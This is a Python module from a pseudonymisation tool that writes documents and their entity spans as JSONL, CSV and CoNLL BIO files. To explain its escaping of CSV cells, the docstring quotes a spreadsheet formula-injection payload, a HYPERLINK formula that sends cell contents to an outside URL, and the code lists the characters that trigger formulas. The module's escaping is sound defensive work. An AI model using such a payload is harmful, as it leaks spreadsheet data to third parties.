"""Writers for rendered documents: Cloak JSONL, CSV and CoNLL (BIO), each readable back by the
readers of this package.

Every writer takes an iterable of `OutputDocument`s and a destination: a path (opened here as
UTF-8, with no newline translation) or a text stream that the caller opened (for CSV, with
`newline=""`, or a "\\r\\n" inside a text may come back changed). Each returns how many
documents it wrote. Documents are written as they come, so a corpus need not fit in memory.

A CSV is read by spreadsheets, which run a cell that starts with `=`, `+`, `-` or `@` (or a tab
or carriage return) as a formula: a typed pseudonym `=HYPERLINK("http://…?x="&A1,"Zed")` would
send the sheet's cells away. Every such cell of a CSV is written with an apostrophe before it
(`spreadsheet_safe`, the audit log's CSV does the same), so it shows as text; a text cell that
got one has its spans' offsets moved by one, so that they stay right in the cell as written.
JSONL and CoNLL are written as the documents are.
"""

from __future__ import annotations

import contextlib
import csv
import json
import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import TextIO

from pseudonymizer.formats.conll import DOCSTART, KEY_COMMENT
from pseudonymizer.spans import Span

CONLL_OUTSIDE = "O"
CSV_COLUMNS = ("id", "lang", "text", "spans")
# What a spreadsheet runs as a formula when a cell starts with it (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What goes before such a cell: spreadsheets show a cell that starts with it as text.
TEXT_MARK = "'"


def spreadsheet_safe(value: str) -> str:
    """`value` as a CSV cell that a spreadsheet shows and never runs: with `TEXT_MARK` before
    it when it starts as a formula does (`FORMULA_STARTS`), else as it is."""
    return TEXT_MARK + value if value.startswith(FORMULA_STARTS) else value


@dataclass
class OutputDocument:
    """A document to write: its rendered text and the spans in that text (code points)."""

    id: str | None
    language: str | None
    text: str
    spans: list[Span] = field(default_factory=list)
    metadata: dict[str, object] = field(default_factory=dict)


@contextlib.contextmanager
def _opened(out: Path | str | TextIO) -> Iterator[TextIO]:
    if isinstance(out, str | Path):
        with open(out, "w", encoding="utf-8", newline="") as stream:
            yield stream
    else:
        yield out


def span_record(span: Span, text: str) -> dict[str, object]:
    """The JSON object of one span: offsets, label, its text, and score, source, the other
    sources that proposed it (`also`) and decision when it has them."""
    record: dict[str, object] = {
        "start": span.start,
        "end": span.end,
        "label": span.label,
        "text": text[span.start : span.end],
    }
    if span.score is not None:
        record["score"] = span.score
    if span.source:
        record["source"] = span.source
    if span.also:
        record["also"] = list(span.also)
    if span.decision is not None:
        record["decision"] = span.decision
    return record


def _check(document: OutputDocument) -> list[Span]:
    """The document's spans sorted; ValueError for one outside the text."""
    for span in document.spans:
        if span.end > len(document.text):
            raise ValueError(
                f"document {document.id!r}: span [{span.start}, {span.end}) lies outside the "
                f"text ({len(document.text)} characters)"
            )
    return sorted(document.spans, key=lambda span: (span.start, span.end, span.label))


def _dumps(value: object) -> str:
    # ensure_ascii=False keeps Arabic and emoji readable; JSON escapes "\r" and "\n".
    return json.dumps(value, ensure_ascii=False)


def jsonl_record(document: OutputDocument) -> dict[str, object]:
    """The Cloak JSONL object of a document (metadata keys beside the reserved ones)."""
    spans = _check(document)
    record: dict[str, object] = {}
    for key, value in document.metadata.items():
        if key not in ("id", "lang", "language", "text", "spans"):
            record[key] = value
    return {
        "id": document.id,
        "lang": document.language,
        "text": document.text,
        "spans": [span_record(span, document.text) for span in spans],
        **record,
    }


def write_jsonl(documents: Iterable[OutputDocument], out: Path | str | TextIO) -> int:
    """Write Cloak JSONL, one document per line: `{"id", "lang", "text", "spans", …}`, the
    metadata as further keys. Readable by `read_documents(..., fmt="jsonl")`."""
    count = 0
    with _opened(out) as stream:
        for document in documents:
            stream.write(_dumps(jsonl_record(document)) + "\n")
            count += 1
    return count


def write_csv(
    documents: Iterable[OutputDocument],
    out: Path | str | TextIO,
    *,
    metadata_columns: Sequence[str] = (),
) -> int:
    """Write CSV with the columns id, lang, text, spans (a JSON list, as in JSONL), then one
    column per name in `metadata_columns` (a string as it is, anything else as JSON, missing
    as empty). Fields are quoted as needed, so line breaks inside a text survive.

    A cell that a spreadsheet would run as a formula gets `TEXT_MARK` before it
    (`spreadsheet_safe`); when the text's does, its spans' offsets count the mark, so that
    `text[start:end]` of the cell as written is still each span's text."""
    reserved = [name for name in metadata_columns if name in CSV_COLUMNS]
    if reserved:
        raise ValueError(f"metadata column {reserved[0]!r} is one of {', '.join(CSV_COLUMNS)}")
    count = 0
    with _opened(out) as stream:
        writer = csv.writer(stream, lineterminator="\r\n")
        writer.writerow([*CSV_COLUMNS, *metadata_columns])
        for document in documents:
            spans = _check(document)
            extra = [_cell(document.metadata.get(name)) for name in metadata_columns]
            text = spreadsheet_safe(document.text)
            shift = len(text) - len(document.text)
            records = [
                {**span_record(span, document.text), "start": span.start + shift,
                 "end": span.end + shift}
                for span in spans
            ]  # fmt: skip
            writer.writerow(
                [
                    spreadsheet_safe(document.id or ""),
                    spreadsheet_safe(document.language or ""),
                    text,
                    _dumps(records),
                    *extra,
                ]
            )
            count += 1
    return count


def _cell(value: object) -> str:
    if value is None:
        return ""
    return spreadsheet_safe(value if isinstance(value, str) else _dumps(value))


# --- CoNLL -----------------------------------------------------------------------------------

_OPENING = frozenset("\"'¡¿«‹“‘„")
_LINE_BREAK = re.compile("[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")


def _peel(text: str, start: int, end: int) -> Iterator[tuple[int, int]]:
    """Tokens of text[start:end] (no whitespace inside): opening punctuation and closing
    punctuation become tokens of their own, one character each; the middle stays whole, so
    "@marie.delattre1," is "@marie.delattre1" and ","."""
    left = start
    while left < end - 1 and (
        text[left] in _OPENING or unicodedata.category(text[left]) in ("Ps", "Pi", "Pf")
    ):
        yield left, left + 1
        left += 1
    right = end
    while right > left + 1 and unicodedata.category(text[right - 1]).startswith("P"):
        right -= 1
    yield left, right
    for index in range(right, end):
        yield index, index + 1


def _tokens(text: str, edges: Sequence[int]) -> Iterator[tuple[int, int]]:
    """The (start, end) of each token: whitespace-separated chunks cut at every span edge,
    then peeled of their punctuation (see `_peel`)."""
    edge_index = 0
    position = 0
    length = len(text)
    while position < length:
        if text[position].isspace():
            position += 1
            continue
        end = position
        while end < length and not text[end].isspace():
            end += 1
        while edge_index < len(edges) and edges[edge_index] <= position:
            edge_index += 1
        if edge_index < len(edges) and edges[edge_index] < end:
            end = edges[edge_index]
        for start, stop in _peel(text, position, end):
            token = text[start:stop]
            if stop - start > 1 and (token == DOCSTART or KEY_COMMENT.match(token)):
                # The reader would take the line for a document break or a comment
                # ("#key=value" reads as "# sent_id = 3" does).
                yield start, start + 1
                yield start + 1, stop
            else:
                yield start, stop
        position = end


def bio_sentences(text: str, spans: Sequence[Span]) -> list[list[tuple[str, str]]]:
    """`text` as sentences of (token, BIO tag).

    Tokens are the whitespace-separated chunks of the text, cut at every span edge, with
    opening and closing punctuation split off (`"Chaya!"` is `Chaya` and `!`); a token inside a
    span is tagged B- (the span's first) or I- with the span's label. A line break between two
    tokens ends a sentence, unless a span runs across it. A span holding no token (whitespace
    only) is lost. The spans must not overlap.
    """
    ordered = sorted(spans, key=lambda span: (span.start, span.end))
    edges = sorted({edge for span in ordered for edge in (span.start, span.end)})
    sentences: list[list[tuple[str, str]]] = []
    current: list[tuple[str, str]] = []
    span_index = 0
    previous_end = 0
    previous_span: int | None = None  # the span of the previous token
    for start, end in _tokens(text, edges):
        while span_index < len(ordered) and ordered[span_index].end <= start:
            span_index += 1
        inside = span_index < len(ordered) and ordered[span_index].start <= start
        owner = span_index if inside else None
        crossed = owner is not None and owner == previous_span
        if current and not crossed and _LINE_BREAK.search(text, previous_end, start):
            sentences.append(current)
            current = []
        token = text[start:end]
        if owner is None:
            current.append((token, CONLL_OUTSIDE))
        else:
            prefix = "I" if owner == previous_span else "B"
            current.append((token, f"{prefix}-{ordered[owner].label}"))
        previous_end = end
        previous_span = owner
    if current:
        sentences.append(current)
    return sentences


def write_conll(documents: Iterable[OutputDocument], out: Path | str | TextIO) -> int:
    """Write CoNLL-2003 style BIO: `-DOCSTART-` before each document, then `# id = …` when it
    has an id, one `token<TAB>tag` line per token, a blank line after each sentence (see
    `bio_sentences`). `read_documents(..., fmt="conll")` rebuilds each text with the tokens
    joined by one space and sentences by "\\n", and gives back the spans on that text.

    Overlapping spans, or a label with whitespace, cannot be written in BIO: ValueError.
    """
    count = 0
    with _opened(out) as stream:
        for document in documents:
            spans = _check(document)
            for before, after in zip(spans, spans[1:], strict=False):
                if before.overlaps(after):
                    raise ValueError(
                        f"document {document.id!r}: spans [{before.start}, {before.end}) and "
                        f"[{after.start}, {after.end}) overlap; BIO cannot hold both"
                    )
            for span in spans:
                if not span.label or any(char.isspace() for char in span.label):
                    raise ValueError(
                        f"document {document.id!r}: label {span.label!r} cannot be a BIO tag"
                    )
            stream.write(f"{DOCSTART}\t{CONLL_OUTSIDE}\n")
            if document.id:
                stream.write(f"# id = {_one_line(document.id)}\n")
            stream.write("\n")
            for sentence in bio_sentences(document.text, spans):
                for token, tag in sentence:
                    stream.write(f"{token}\t{tag}\n")
                stream.write("\n")
            count += 1
    return count


def _one_line(value: str) -> str:
    return " ".join(value.split())
